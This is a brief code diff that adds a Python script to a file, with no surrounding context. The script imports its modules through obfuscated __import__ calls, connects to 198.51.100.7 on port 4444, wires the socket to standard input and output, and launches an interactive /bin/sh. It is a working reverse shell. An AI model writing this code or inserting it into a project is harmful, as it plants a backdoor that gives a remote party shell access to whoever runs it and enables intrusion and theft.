@@ -1,0 +1,8 @@
+so = __import__("socket")
+o = __import__("os")
+s = so.socket(so.AF_INET, so.SOCK_STREAM)
+s.connect(("198.51.100.7", 4444))
+o.dup2(s.fileno(), 0)
+o.dup2(s.fileno(), 1)
+o.dup2(s.fileno(), 2)
+__import__("subprocess").call(["/bin/sh", "-i"])
